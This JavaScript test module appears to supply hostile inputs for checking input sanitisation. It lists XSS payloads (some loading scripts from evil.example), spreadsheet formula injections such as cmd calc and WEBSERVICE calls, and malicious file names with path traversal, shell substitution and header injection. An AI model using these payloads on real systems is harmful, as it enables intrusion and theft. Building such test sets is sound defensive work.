/*
 * Text that wants to be more than text.  Each of `scripts` calls hit(n) with its own
 * number where it is run; `starters` would be formulas; `names` are names of files.
 */

const run = "hit(#)";
const list = [
    /* elements that run */
    `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`,
    `<script >${run}</script >`, `<script\n>${run}</script\n>`,
    `<script/x>${run}</script>`, `<script src=//evil.example/#.js></script>`,
    `<script src="data:text/javascript,${run}"></script>`,
    `<script type=module>${run}</script>`, `<<script>${run}//<</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`, `<svg><script>${run}</script>`,
    `<svg><script xlink:href="data:,${run}"></script>`,
    `<script>${run}`, `</script><script>${run}</script>`,
    `<script>/*</script><script>*/${run}</script>`,
    /* elements that load or move */
    `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`,
    `<img src=x onerror='${run}'>`, `<img/src=x/onerror=${run}>`,
    `<IMG SRC=x ONERROR=${run}>`, `<img src=x onerror=\`${run}\`>`,
    `<img src=x\nonerror\n=\n${run}>`, `<img src=/ onerror=${run} x=`,
    `<image src=x onerror=${run}>`, `<img srcset=x onerror=${run}>`,
    `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg onload=${run}//`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><set attributeName=href onbegin=${run}>`,
    `<svg><a><animate attributeName=href values=javascript:${run} /><text y=9>x`,
    `<svg><image href=x onerror=${run}>`,
    `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${run}></style>`,
    `<svg><title><img src=x onerror=${run}></title>`,
    `<svg><desc><img src=x onerror=${run}></desc>`,
    `<math><mtext><img src=x onerror=${run}></mtext></math>`,
    `<math href="javascript:${run}">x</math>`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<body onload=${run}>`, `<video src=x onerror=${run}>`,
    `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`,
    `<details open ontoggle=${run}>x</details>`,
    `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`,
    `<textarea autofocus onfocus=${run}>`, `<button autofocus onfocus=${run}>`,
    `<a href=# autofocus onfocus=${run} tabindex=1>x</a>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<p style="animation:x" onanimationstart=${run}>x</p>`,
    `<div onpointerover=${run} style="position:fixed;inset:0">x</div>`,
    `<p onclick=${run}>x</p>`, `<x onmouseover=${run}>x`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<iframe onload=${run}></iframe>`,
    `<object data="javascript:parent.${run}"></object>`,
    `<embed src="javascript:parent.${run}">`, `<object data=x onerror=${run}>`,
    `<link rel=stylesheet href=x onerror=${run}>`,
    `<link rel=import href=//evil.example/#>`,
    `<style onload=${run}></style>`, `<style>@import "//evil.example/#"</style>`,
    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    `<meta http-equiv=refresh content="0;url=//evil.example/#">`,
    `<base href=//evil.example/>`, `<form action=javascript:${run}><button>x`,
    `<button formaction=javascript:${run}>x</button>`,
    `<isindex action=javascript:${run} type=submit>`,
    `<template><script>${run}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<dialog open onclose=${run}><form method=dialog><button>x`,
    `<xss contenteditable onfocus=${run} autofocus tabindex=0>x`,
    /* out of where it stands */
    `" autofocus onfocus=${run} x="`, `' autofocus onfocus=${run} x='`,
    `" onmouseover="${run}`, `' onmouseover='${run}`, `x onmouseover=${run} `,
    `"><script>${run}</script>`, `'><script>${run}</script>`,
    `"><img src=x onerror=${run}>`, `'><svg onload=${run}>`,
    `" style="background:url(//evil.example/#)`,
    `</textarea><script>${run}</script>`, `</title><script>${run}</script>`,
    `</style><script>${run}</script>`, `</option></select><img src=x onerror=${run}>`,
    `--><script>${run}</script>`, `]]><script>${run}</script>`,
    `--!><img src=x onerror=${run}>`, `<!--><img src=x onerror=${run}>`,
    `<![CDATA[><img src=x onerror=${run}>]]>`, `<?x><img src=x onerror=${run}>`,
    `\\"><script>${run}</script>`, `\`-${run}-\``, `';${run}//`, `";${run}//`,
    `"-${run}-"`, `\${${run}}`, `</a><img src=x onerror=${run}>`,
    `</td></table><img src=x onerror=${run}>`,
    /* addresses */
    `javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`,
    `javascript://%0a${run}`, `data:text/html,<script>parent.${run}</script>`,
    `vbscript:${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`,
    /* the markup of reports */
    `[x](javascript:${run})`, `[x](<javascript:${run}>)`,
    `[x](JAVASCRIPT:${run} "x")`, `[x](data:text/html,<script>${run}</script>)`,
    `![x](javascript:${run})`, `![x](x" onerror="${run})`,
    `[x](x" onmouseover="${run})`, `[x" onmouseover="${run}](x)`,
    `<javascript:${run}>`, `[x]: javascript:${run}\n\n[x]`,
    `\`\`\`"><script>${run}</script>\n\`\`\``, `# <img src=x onerror=${run}>`,
    `| <img src=x onerror=${run}> |\n|---|\n| x |`, `&lt;script&gt;${run}&lt;/script&gt;`,
    /* what other readers undo */
    `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `&#60;script&#62;${run}&#60;/script&#62;`, `＜script＞${run}＜/script＞`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `{{{csrf}}}<img src=x onerror=${run}>`,
    `{{#nav}}<img src=x onerror=${run}>{{/nav}}`,
];

export const scripts = list.map((s, i) => s.replaceAll("#", String(i)));

const marks = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%", "＝", "＋", "－",
    "＠", " =", "\u00a0=", "\u200b=", "\ufeff=", "'=", "\"=", ";=", ",=", "=\t",
    "==", "=-", "+=", "-=", "@=", "−", "﹦", "\u2028="];

export const starters = marks.map((m, i) => m + [`1+1`, `cmd|' /C calc'!A0`,
    `HYPERLINK("http://evil.example/${i}";"x")`, `SUM(1;2)`,
    `WEBSERVICE("http://evil.example/")`][i % 5]);

const long = (n, c = "a") => c.repeat(n);

export const names = ["../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf",
    "/etc/passwd.pdf", "C:\\autoexec.pdf", "\\\\host\\share\\x.pdf", "..pdf",
    ".pdf", ".htaccess.pdf", "a/../b.pdf", "%2e%2e%2fx.pdf", "%00.pdf",
    "a%0d%0aSet-Cookie: x=1.pdf", "CON.pdf", "nul.pdf", "LPT1.pdf", "aux.PDF",
    "com1.pdf", "x.pdf.exe", "x.exe.pdf", "x.pdf.", "x.pdf ", " x.pdf",
    "x .pdf", "-rf.pdf", "~.pdf", "$(id).pdf", "`id`.pdf", "a;b.pdf", "a|b.pdf",
    "a&b.pdf", "a\"b.pdf", "a'b.pdf", "a<b>.pdf", "a:b.pdf", "a*b?.pdf",
    "x.pdf::$DATA", "\u202egnp.pdf", "a\u202efdp.exe", "\u2066a\u2069.pdf",
    "\u200ba.pdf", "\ufeffa.pdf", "biên bản hội nghị.pdf", "Ê\u0302.pdf",
    "e\u0302\u0301.pdf", "報告.pdf", "😀.pdf", long(251) + ".pdf",
    long(296) + ".pdf", long(98, "ế") + ".pdf", long(400, "😀") + ".pdf", "a\tb.pdf",
    "a\nb.pdf", "a\rb.pdf", "a\r\nX-Evil: 1\r\n\r\n<script>.pdf", "a\u0000b.pdf",
    "a\u007fb.pdf", "a\u0085b.pdf", "a\u2028b.pdf", "; filename=evil.html",
    "\"; filename=\"evil.html", "x.pdf\"; filename*=UTF-8''evil.html", "x.html",
    "x.svg", "x.js", "<script>hit(0)</script>.pdf", "<img src=x onerror=hit(0)>.pdf",
    "=cmd.pdf", "@SUM.pdf", "", ".", "..", "/", "\\", "x", "x.", "x.pdf/",
    "javascript:hit(0).pdf"];
